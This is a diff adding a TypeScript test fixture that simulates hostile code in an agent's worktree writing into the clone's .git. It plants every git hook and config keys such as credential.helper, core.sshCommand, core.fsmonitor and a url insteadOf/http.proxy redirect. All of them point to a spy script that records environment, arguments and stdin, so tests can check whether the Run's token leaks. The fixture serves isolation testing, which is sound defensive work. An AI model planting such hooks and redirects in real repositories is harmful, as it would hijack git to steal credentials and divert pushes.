@@ -1,0 +1,110 @@
+/**
+ * What hostile code in a worktree writes into the clone's `.git` to reach the Run's token: every
+ * hook git runs, and each config key that starts a program or sends a request elsewhere. Each
+ * planted program writes its environment, arguments and stdin into `evidence/`, so a test can tell
+ * whether it ran and whether the token reached it. Used by git-isolation.test.ts and the chaos
+ * canary (ADR 0083, ADR 0150).
+ */
+import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+
+/** Every hook name in githooks(5) of git 2.39. */
+export const HOOKS = [
+  "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg",
+  "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update",
+  "proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc",
+  "post-rewrite", "sendemail-validate", "fsmonitor-watchman", "p4-changelist", "p4-prepare-changelist",
+  "p4-post-changelist", "p4-pre-submit", "post-index-change",
+] as const;
+
+/** The token as it may travel: itself, the git Basic credential in base64, and URL-encoded. */
+export function tokenForms(token: string): string[] {
+  return [token, Buffer.from(`x-access-token:${token}`).toString("base64"), encodeURIComponent(token), Buffer.from(token).toString("base64")];
+}
+
+export interface AttackInput {
+  /** The clone's top level (its `.git` is a directory). */
+  root: string;
+  /** Where planted programs write what they saw. */
+  evidence: string;
+  /** URL prefix of the real remote, and where the attacker wants requests to go instead. */
+  redirectFrom: string;
+  redirectTo: string;
+  /** A folder for the attack's own files (the program, the included config). */
+  scratch: string;
+}
+
+export interface Attack {
+  /** A node script that plants everything (for a Check to run). */
+  script: string;
+  /** Plants everything now (as the agent would, with a file write). */
+  plant: () => Promise<void>;
+  /** The config keys planted, for the figures. */
+  keys: string[];
+}
+
+export async function plantAttack(input: AttackInput): Promise<Attack> {
+  const spy = join(input.scratch, "spy.sh");
+  await writeFile(spy, `#!/bin/sh\nf="${input.evidence}/$(basename "$0")-$$"\nenv > "$f.env"\necho "$@" > "$f.args"\ncat > "$f.stdin" 2>/dev/null\nexit 0\n`);
+  await chmod(spy, 0o755);
+  const hooksDir = join(input.scratch, "planted-hooks");
+  const included = join(input.scratch, "included.gitconfig");
+  const keys = [
+    `url.${input.redirectTo}.insteadOf`,
+    "http.proxy",
+    "core.sshCommand",
+    "credential.helper",
+    "include.path",
+    "core.fsmonitor",
+    "core.askPass",
+    "core.hooksPath",
+  ];
+  const config = [
+    `[url "${input.redirectTo}"]`,
+    `\tinsteadOf = ${input.redirectFrom}`,
+    "[http]",
+    `\tproxy = ${input.redirectTo}`,
+    "[core]",
+    `\tsshCommand = ${spy}`,
+    `\tfsmonitor = ${spy}`,
+    `\taskPass = ${spy}`,
+    `\thooksPath = ${hooksDir}`,
+    "[credential]",
+    `\thelper = !${spy}`,
+    "[include]",
+    `\tpath = ${included}`,
+    "",
+  ].join("\n");
+  // The included file redirects too, so a Run that ignores only the clone's own lines is still caught.
+  await writeFile(included, `[url "${input.redirectTo}"]\n\tpushInsteadOf = ${input.redirectFrom}\n[http]\n\tproxy = ${input.redirectTo}\n`);
+  const hookBody = `#!/bin/sh\nexec ${spy} "$@"\n`;
+  const plant = async (): Promise<void> => {
+    const gitDir = join(input.root, ".git");
+    const current = await readFile(join(gitDir, "config"), "utf8");
+    if (!current.includes(spy)) await writeFile(join(gitDir, "config"), current + config);
+    for (const dir of [join(gitDir, "hooks"), hooksDir]) {
+      await mkdir(dir, { recursive: true });
+      for (const hook of HOOKS) {
+        await writeFile(join(dir, hook), hookBody);
+        await chmod(join(dir, hook), 0o755);
+      }
+    }
+  };
+  const script = join(input.scratch, "plant.js");
+  await writeFile(
+    script,
+    [
+      `const fs = require("node:fs"), path = require("node:path");`,
+      `const gitDir = ${JSON.stringify(join(input.root, ".git"))};`,
+      `const cfg = path.join(gitDir, "config");`,
+      `const current = fs.readFileSync(cfg, "utf8");`,
+      `if (!current.includes(${JSON.stringify(spy)})) fs.writeFileSync(cfg, current + ${JSON.stringify(config)});`,
+      `for (const dir of [path.join(gitDir, "hooks"), ${JSON.stringify(hooksDir)}]) {`,
+      `  fs.mkdirSync(dir, { recursive: true });`,
+      `  for (const hook of ${JSON.stringify(HOOKS)}) fs.writeFileSync(path.join(dir, hook), ${JSON.stringify(hookBody)}, { mode: 0o755 });`,
+      `}`,
+      "",
+    ].join("\n"),
+  );
+  return { script, plant, keys };
+}
